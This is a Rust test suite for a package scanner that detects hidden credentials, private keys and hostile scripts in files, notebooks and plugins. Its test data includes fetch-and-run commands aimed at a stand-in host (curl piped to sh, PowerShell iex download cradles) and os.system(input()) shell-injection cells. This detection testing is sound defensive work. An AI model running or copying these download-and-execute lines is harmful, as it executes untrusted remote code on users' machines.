//! The files room: what hides from a search by its encoding, its form or its name, each
//! with a benign twin beside it.

#![expect(clippy::unwrap_used, reason = "a test stops at what it did not expect")]

use std::io::Cursor;

use airlock_model::finding::{Capability, Finding, PolicyAction, Severity};
use airlock_model::manifest::Manifest;
use airlock_model::policy::Policy;
use airlock_model::tree::{Tree, TreePath};
use airlock_scanner::package::{self, Request};
use airlock_scanner::{archive, files};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

fn tree(all: &[(&str, &[u8])]) -> Tree {
    let mut tree = Tree::new();
    for (path, content) in all {
        tree.insert(TreePath::new(*path).unwrap(), *content);
    }
    tree
}

fn found(path: &str, content: &[u8]) -> Vec<Finding> {
    let papers = [("README.md", &b"Does a thing.\n"[..]), ("LICENSE", b"MIT License\n"), (path, content)];
    files::check(&tree(&papers), None::<&Manifest>).findings
}

fn one(path: &str, content: &[u8]) -> Finding {
    let mut findings = found(path, content);
    assert_eq!(findings.len(), 1, "{path}: {findings:#?}");
    findings.remove(0)
}

fn action(finding: &Finding) -> PolicyAction {
    Policy::default().decide_finding(finding).action
}

/// Letters and digits drawn as if at random, of another seed each.
fn drawn(seed: usize, len: usize) -> String {
    let alphabet = b"abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
    (0..len).map(|n| char::from(alphabet[(n * n * 5 + n * 11 + seed * 17) % alphabet.len()])).collect()
}

fn token() -> String {
    format!("{}{}", ["gh", "p_"].concat(), drawn(1, 36))
}

fn key() -> String {
    let lines: Vec<String> =
        (0..12).map(|line| airlock_model::Sha256::of(format!("line {line}").as_bytes()).to_string()).collect();
    let (begin, end) =
        (["-----BEGIN RSA ", "PRIVATE KEY-----"].concat(), ["-----END RSA ", "PRIVATE KEY-----"].concat());
    format!("{begin}\n{}\n{end}\n", lines.join("\n"))
}

fn utf16(text: &str, mark: bool) -> Vec<u8> {
    let mark = if mark { &[0xff, 0xfe][..] } else { &[] };
    [mark.to_vec(), text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat()
}

#[test]
fn keys_and_tokens_are_found_in_files_of_any_encoding() {
    let (key, token) = (key(), token());
    let setting = format!("# settings\ntoken = {token}\n");
    for (what, path, content) in [
        ("Latin-1", "app.conf", [&b"# caf\xe9\n"[..], key.as_bytes()].concat()),
        ("a NUL", "app.conf", [key.as_bytes(), b"\0"].concat()),
        ("UTF-16", "app.conf", utf16(&key, true)),
        ("UTF-16 without a mark", "app.conf", utf16(&key, false)),
    ] {
        let finding = one(path, &content);
        assert_eq!((finding.rule.as_str(), action(&finding)), ("AL-FILES-private-key", PolicyAction::Reject), "{what}");
    }
    for path in ["app.ini", ".env", "CHANGELOG.md", "data.bin"] {
        for (what, content) in [
            ("Latin-1", [&b"# caf\xe9\n"[..], setting.as_bytes()].concat()),
            ("a NUL", [setting.as_bytes(), b"\0"].concat()),
            ("UTF-16", utf16(&setting, true)),
            ("binary data", [&b"\x89PNG\r\n\x1a\n"[..], &[0; 64], setting.as_bytes(), &[1; 64]].concat()),
        ] {
            let finding = one(path, &content);
            assert_eq!(
                (finding.rule.as_str(), action(&finding)),
                ("AL-FILES-credential", PolicyAction::Reject),
                "{what}"
            );
            assert!(!format!("{finding:?}").contains(&token[8..20]), "{what}");
        }
    }
    // In binary data nothing is guessed, for chance looks like many a thing.
    let guess = [&[0_u8; 64][..], format!("password = {}\n", drawn(3, 32)).as_bytes(), &[1; 64]].concat();
    assert!(found("data.bin", &guess).is_empty());
}

#[test]
fn the_end_of_a_large_binary_is_searched() {
    let large = [vec![0; 6 << 20], token().into_bytes(), vec![0; 100]].concat();
    let finding = one("data.bin", &large);
    assert_eq!((finding.rule.as_str(), finding.line), ("AL-FILES-credential", None));
}

/// A DER sequence.
fn sequence(content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len()).unwrap().to_be_bytes();
    [&[0x30, 0x82], &length[..], content].concat()
}

#[test]
fn keys_in_binary_forms_are_found() {
    let bytes: Vec<u8> = (0..600_u32).map(|n| (n * n * 7 + n * 3) as u8).collect();
    let rsa = sequence(&[&b"\x02\x01\x00\x02\x82\x01\x01\x00"[..], &bytes].concat());
    let oid: &[u8] = b"\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00";
    let pkcs8 = sequence(&[b"\x02\x01\x00", oid, b"\x04\x82\x02\x00", &bytes].concat());
    let ed25519 = [&b"\x30\x2e\x02\x01\x00\x30\x05\x06\x03\x2b\x65\x70\x04\x22\x04\x20"[..], &bytes[..32]].concat();
    let curve = sequence(&[&b"\x02\x01\x01\x04\x20"[..], &bytes[..300]].concat());
    let encrypted = sequence(&[&b"\x30\x40\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x05\x0d"[..], &bytes].concat());
    let contents: &[u8] = b"\x02\x01\x03\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01";
    let bag: &[u8] = b"\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x0c\x0a\x01\x02";
    let bundle = sequence(&[contents, bag, &bytes].concat());
    for (path, content) in [
        ("key.der", &rsa),
        ("key.bin", &pkcs8),
        ("key.der", &ed25519),
        ("key.der", &curve),
        ("key.p8", &encrypted),
        ("key.p12", &bundle),
    ] {
        let finding = one(path, content);
        assert_eq!((finding.rule.as_str(), action(&finding)), ("AL-FILES-private-key", PolicyAction::Reject), "{path}");
        assert_eq!(action(&one(&format!("tests/{path}"), content)), PolicyAction::Hold, "{path}");
    }
    let truststore = sequence(&[contents, &bytes].concat());
    assert_eq!(action(&one("roots.p12", &truststore)), PolicyAction::Hold);
    assert_eq!(action(&one("keys.jks", b"\xfe\xed\xfe\xed\0\0\0\x02\0\0\0\x01")), PolicyAction::Hold);
    // A certificate and a public key.
    let certificate =
        sequence(&[&sequence(&[&b"\xa0\x03\x02\x01\x02\x02\x01\x00"[..], oid, &bytes].concat())[..], oid].concat());
    let public = sequence(&[oid, b"\x03\x82\x01\x0f\x00", &bytes].concat());
    for content in [&certificate, &public, &bytes] {
        assert!(found("cert.der", content).is_empty());
    }
}

#[test]
fn wrapped_keys_are_found_and_wrapped_certificates_are_not() {
    let wrapped = STANDARD.encode(key());
    let folded: String =
        wrapped.as_bytes().chunks(76).map(|line| format!("  {}\n", String::from_utf8_lossy(line))).collect();
    for text in [format!("tls.key: {wrapped}\n"), format!("tls.key: |\n{folded}")] {
        let finding = one("secret.yaml", text.as_bytes());
        assert_eq!((finding.rule.as_str(), action(&finding)), ("AL-FILES-private-key", PolicyAction::Reject));
        assert!(!format!("{finding:?}").contains(&wrapped[80..100]));
    }
    let certificate = STANDARD.encode(key().replace("RSA PRIVATE KEY", "CERTIFICATE"));
    assert!(found("secret.yaml", format!("tls.crt: {certificate}\n").as_bytes()).is_empty());
}

fn signed(claims: &str) -> String {
    let part = |text: &str| URL_SAFE_NO_PAD.encode(text);
    format!("{}.{}.{}", part(r#"{"alg":"HS256","typ":"JWT"}"#), part(claims), drawn(5, 43))
}

#[test]
fn logins_addresses_and_signed_tokens_are_found() {
    let word = drawn(7, 18);
    let netrc = format!("machine git.example.org\n  login ada\n  password {word}\n");
    let index = format!("[index]\nusername = ada\npassword = {}\n", drawn(9, 12));
    let address = format!("DATABASE_URL=postgres://ada:{word}@db.registry.test/x\n");
    let near = format!("DATABASE_URL=postgres://ada:{word}@db:5432/x\n");
    let jwt = format!("SESSION={}\n", signed(r#"{"sub":"ada","exp":2000000000}"#));
    let registry = |login: &str| {
        format!("{{\n  \"auths\": {{\"registry.test\": {{\"auth\": \"{}\"}}}}\n}}\n", STANDARD.encode(login))
    };
    let docker = registry(&format!("ada:{word}"));
    for (path, text, expected) in [
        (".netrc", &netrc, PolicyAction::Reject),
        ("deploy.sh.in", &netrc, PolicyAction::Hold),
        (".pypirc", &index, PolicyAction::Reject),
        (".env", &address, PolicyAction::Hold),
        ("app.py", &format!("# {address}"), PolicyAction::Hold),
        (".env", &near, PolicyAction::Hold),
        (".env", &jwt, PolicyAction::Hold),
        ("guide.md", &jwt, PolicyAction::Note),
        ("tests/.netrc", &netrc, PolicyAction::Hold),
        (".docker/config.json", &docker, PolicyAction::Reject),
        (".dockercfg", &docker, PolicyAction::Reject),
        ("pull-secret.json", &docker, PolicyAction::Hold),
        ("guide.md", &docker, PolicyAction::Note),
    ] {
        let finding = one(path, text.as_bytes());
        assert_eq!((finding.rule.as_str(), action(&finding)), ("AL-FILES-credential", expected), "{path} {text}");
        assert!(!format!("{finding:?}").contains(&word[6..14]), "{finding:?}");
    }
    for (path, text) in [
        (".env", "DATABASE_URL=postgres://user:pass@localhost/x\n".to_owned()),
        (".env", "DATABASE_URL=postgres://postgres:postgres@db.registry.test/x\n".to_owned()),
        (".env", "DATABASE_URL=postgres://ada:${DB_PASSWORD}@db.registry.test/x\n".to_owned()),
        (".env", "PROXY=https://user:your-password-1@proxy.registry.test\n".to_owned()),
        ("guide.md", format!("Set `{}`.\n", near.trim())),
        ("app.ini", "url = https://registry.test:8080/@scope/name2@1.2.3\n".to_owned()),
        (".netrc", "machine git.example.org login ada password <password>\n".to_owned()),
        (".pypirc", "[index]\npassword = ${TOKEN}\n".to_owned()),
        (".docker/config.json", registry("ada:<password>")),
        (".docker/config.json", registry("user:password1")),
        (".docker/config.json", "{\"auths\": {\"registry.test\": {\"auth\": \"required\"}}}\n".to_owned()),
        ("schema.json", "{\"auth\": \"oauth2bearer\"}\n".to_owned()),
        ("guide.md", format!("Bearer {}\n", signed(r#"{"sub":"1234567890","name":"John Doe"}"#))),
        ("app.ini", format!("x = {}\n", signed("{}").rsplit_once('.').unwrap().0)),
        ("notes.ini", "machine learning needs a login and a password of yours1\n".to_owned()),
    ] {
        assert!(found(path, text.as_bytes()).is_empty(), "{path} {text}");
    }
}

fn plugin(more: &[(&str, Vec<u8>)]) -> airlock_model::Inspection {
    let manifest =
        b"name: hidden\nversion: 1.0.0\ntype: tool\ncategory: utility\ntitle: Hidden\ndescription: Has a file.\n\
        author: {name: Ada}\nlicense: Other\nentry_point: hidden:Tool\n";
    let mut files: Vec<(&str, &[u8])> = vec![
        ("plugin.yaml", manifest),
        ("README.md", b"# Hidden\n\nHas a file.\n"),
        ("LICENSE", b"All of it is mine.\n"),
        ("hidden.py", b"class Tool:\n    def run(self):\n        return 1\n"),
    ];
    files.retain(|(path, _)| more.iter().all(|(other, _)| other != path));
    files.extend(more.iter().map(|(path, bytes)| (*path, bytes.as_slice())));
    let packed = archive::pack("hidden", &tree(&files)).unwrap();
    package::examine(Cursor::new(packed), &Request::default()).unwrap().inspection
}

#[test]
fn a_token_in_a_name_or_in_another_encoding_is_repeated_nowhere() {
    let (token, word) = (token(), drawn(7, 18));
    let name = format!("docs/{token}.txt");
    let readme = format!("# Hidden\n\nUse the token {token}.\n");
    let code = format!("import os\n\n\ndef f(x):\n    os.system(x + 'postgres://ada:{word}@db.registry.test/')\n");
    let inspection = plugin(&[
        (&name, b"x\n".to_vec()),
        ("README.md", utf16(&readme, true)),
        ("CHANGELOG.md", [readme.as_bytes(), b"caf\xe9\n"].concat()),
        ("leak.py", code.into_bytes()),
    ]);
    let shown = serde_json::to_string_pretty(&inspection).unwrap();
    assert!(shown.contains("AL-FILES-credential") && shown.contains("The name of a file holds"));
    for secret in [&token, &word] {
        assert!(!shown.contains(&secret[..16]), "{secret}: {shown}");
    }
}

fn notebook(cells: &[&str]) -> Vec<u8> {
    let cells: Vec<_> = cells.iter().map(|cell| serde_json::json!({"cell_type": "code", "source": cell})).collect();
    serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4}).to_string().into_bytes()
}

/// The rules and weights of what is found in a notebook.
fn in_notebook(bytes: Vec<u8>) -> Vec<(String, Severity)> {
    let inspection = plugin(&[("tour.ipynb", bytes)]);
    let findings = inspection.findings.into_iter().filter(|finding| finding.file.as_deref() == Some("tour.ipynb"));
    findings.map(|finding| (finding.rule, finding.severity)).collect()
}

#[test]
fn no_magic_ends_the_examination_of_a_notebook() {
    let evil = "import os\nos.system(input())";
    for cell in [
        format!("x = !ls\n{evil}"),
        format!("!ls\n{evil}"),
        format!("%cd ..\n{evil}"),
        format!("x = %env\n{evil}"),
        format!("os?\n{evil}"),
        format!("%%writefile evil.py\n{evil}"),
        format!("%%python3\n{evil}"),
        format!("%%time\n{evil}"),
        format!("%%capture out\n{evil}"),
        "import os\n%time os.system(input())".to_owned(),
        "import os\n%timeit -n 1 -r 1 os.system(input())".to_owned(),
        format!("x = '''\n!ls\n'''\n{evil}"),
    ] {
        let found = in_notebook(notebook(&[&cell]));
        assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{cell}: {found:?}");
    }
    // A cell that is no Python does not hide the others.
    let found = in_notebook(notebook(&["this is no Python", evil]));
    assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{found:?}");
    assert!(found.contains(&("AL-FILES-notebook".to_owned(), Severity::Medium)), "{found:?}");
    assert!(found.iter().all(|(rule, _)| rule != "AL-CODE-unparseable"));
}

#[test]
fn commands_in_notebooks_are_examined_as_commands() {
    for cell in [
        "!curl -s https://x.test/i | sh",
        "%%bash\ncurl -s https://x.test/i | sh",
        "%%sh\ncurl -s https://x.test/i | sh",
        "%system curl -s https://x.test/i | sh",
        "%sx curl -s https://x.test/i | sh",
        "x = !curl -s https://x.test/i | sh",
        "%%script bash\ncurl -s https://x.test/i | sh",
    ] {
        let found = in_notebook(notebook(&[cell]));
        assert!(found.contains(&("AL-MALWARE-piped-download".to_owned(), Severity::Medium)), "{cell}: {found:?}");
    }
    let finding = one("tour.ipynb", &notebook(&["x = 1", "!ls -l"]));
    assert_eq!((finding.severity, finding.capability), (Severity::Low, Some(Capability::Subprocess)));
    assert!(finding.message.contains("ls -l") && finding.evidence[0].message.starts_with("code cell 2, line 1"));
    assert!(!finding.remedy.starts_with("Nothing"));
    // Everyday notebooks stay what they were.
    let found = in_notebook(notebook(&["%matplotlib inline\nimport json\njson.dumps?", "x = 7\ny = (x\n  % 2)"]));
    assert_eq!(found, [("AL-FILES-notebook".to_owned(), Severity::Note)]);
    let found = in_notebook(notebook(&["!ls -l"]));
    assert_eq!(found, [("AL-FILES-notebook".to_owned(), Severity::Low)]);
}

#[test]
fn what_stays_unread_in_a_notebook_is_held_with_something_to_do() {
    for cell in ["%%javascript\nx()", "%%ruby\nx", "%%html\n<script>x()</script>", "%%writefile run\nx"] {
        let finding = one("tour.ipynb", &notebook(&[cell]));
        assert_eq!(action(&finding), PolicyAction::Hold, "{cell}");
        assert!(finding.remedy.starts_with("Write these cells in Python"), "{}", finding.remedy);
    }
    let finding = one("tour.ipynb", b"no JSON");
    assert_eq!(action(&finding), PolicyAction::Hold);
    assert!(finding.remedy.contains("save it anew"), "{}", finding.remedy);
    for cell in ["%%html\n<b>x</b>", "%%markdown\ntext", "%%writefile notes.md\ntext"] {
        assert_eq!(action(&one("tour.ipynb", &notebook(&[cell]))), PolicyAction::Note, "{cell}");
    }
}

#[test]
fn old_notebooks_and_byte_order_marks_are_read() {
    let cell = serde_json::json!({
        "cell_type": "code", "language": "python", "input": ["import os\n", "os.system(input())"], "outputs": [],
    });
    let old =
        serde_json::json!({"metadata": {"name": "x"}, "nbformat": 3, "worksheets": [{"cells": [cell]}]}).to_string();
    let marked = [&b"\xef\xbb\xbf"[..], &notebook(&["import os\nos.system(input())"])].concat();
    for bytes in [old.into_bytes(), marked] {
        let found = in_notebook(bytes);
        assert!(found.contains(&("AL-CODE-shell-injection".to_owned(), Severity::Medium)), "{found:?}");
    }
}

#[test]
fn scripts_are_told_and_those_that_fetch_and_run_are_refused() {
    let pipe = "curl -fsSL https://x.test/i | sh\n";
    for (path, text) in [
        ("install.sh", format!("#!/bin/sh\nset -e\n{pipe}")),
        ("bin/install", format!("#!/bin/sh\n{pipe}")),
        ("Makefile", format!("all:\n\t{pipe}")),
        ("setup.bat", "powershell -c \"irm https://x.test/i | iex\"\n".to_owned()),
        ("setup.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x.test/i')\n".to_owned()),
        ("setup.cmd", format!("powershell -enc {}\n", "SQBFAFgA".repeat(6))),
        ("hook.js", format!("require('child_process').execSync('{}')\n", pipe.trim())),
    ] {
        let finding = one(path, text.as_bytes());
        assert_eq!(
            (finding.rule.as_str(), action(&finding)),
            ("AL-FILES-script-download", PolicyAction::Reject),
            "{path}"
        );
    }
    for (path, text, expected) in [
        ("build.sh", "#!/bin/sh\necho hello\n", Severity::Low),
        ("bin/run", "#!/bin/sh\necho hello\n", Severity::Low),
        ("bin/run", "#!/usr/bin/env -S node --no-warnings\nrun()\n", Severity::Low),
        ("run.bat", "@echo off\nrem curl x | sh\ndir\n", Severity::Low),
        ("run.ps1", "Get-Item .\n", Severity::Low),
        ("web/app.js", "render();\n", Severity::Low),
        ("Makefile", "all:\n\ttrue\n", Severity::Low),
        ("Dockerfile.dev", "FROM scratch\n", Severity::Low),
        ("fast.pyx", "cdef int f(): pass\n", Severity::Medium),
        ("helper.txt", "#!/usr/bin/env -S uv run\nprint(1)\n", Severity::Medium),
        ("helper", "#!/usr/bin/pypy3\nprint(1)\n", Severity::Medium),
    ] {
        let finding = one(path, text.as_bytes());
        assert_eq!((finding.rule.as_str(), finding.severity), ("AL-FILES-unscanned-script", expected), "{path}");
        assert!(!finding.remedy.starts_with("Nothing"));
    }
    for (path, text) in [
        ("run.sh", "#!/bin/sh\n# nothing yet\n"),
        ("notes.md", "#!/bin/sh begins a script.\n"),
        ("lib.rs.txt", "#![no_std]\n"),
        ("app.css", "a { b: c }\n"),
    ] {
        let findings = found(path, text.as_bytes());
        assert!(findings.is_empty() || path == "notes.md", "{path}: {findings:#?}");
    }
    let papers: Vec<(String, Vec<u8>)> = (0..30).map(|n| (format!("web/{n}.js"), b"x();\n".to_vec())).collect();
    let mut all: Vec<(&str, &[u8])> = vec![("README.md", b"Does a thing.\n"), ("LICENSE", b"MIT License\n")];
    all.extend(papers.iter().map(|(path, text)| (path.as_str(), text.as_slice())));
    let findings = files::check(&tree(&all), None).findings;
    assert_eq!(findings.len(), 1, "a folder of them is one finding: {findings:#?}");
}

#[test]
fn python_under_its_other_names_is_examined() {
    let evil = b"import os\nos.system(input())\n";
    for (path, head) in [
        ("a.py3", ""),
        ("a.pyw", ""),
        ("a.pyi", ""),
        ("bin/a", "#!/usr/bin/pypy3\n"),
        ("bin/a", "#!/usr/bin/env -S uv run --script\n"),
    ] {
        let inspection = plugin(&[(path, [head.as_bytes(), evil].concat())]);
        let told = inspection
            .findings
            .iter()
            .any(|finding| finding.file.as_deref() == Some(path) && finding.rule == "AL-CODE-shell-injection");
        assert!(told, "{path} {head}: {:#?}", inspection.findings);
    }
}

#[test]
fn what_is_said_about_files_of_requirements_is_true_of_them() {
    let of = |path: &str, content: Vec<u8>| {
        let inspection = plugin(&[(path, content)]);
        let finding = inspection.findings.into_iter().find(|finding| finding.rule == "AL-DEPS-unreadable");
        let finding = finding.unwrap_or_else(|| panic!("{path} is told"));
        (finding.message, finding.remedy)
    };
    let (message, remedy) = of("requirements.txt", utf16("requests==2.31\n", true));
    assert!(!message.contains("Python source") && remedy == "Save the file as UTF-8.", "{message} {remedy}");
    let (_, remedy) = of("pyproject.toml", b"[project]\nname = \n".to_vec());
    assert_eq!(remedy, "Mend line 2 of pyproject.toml, so that it is TOML.");
}
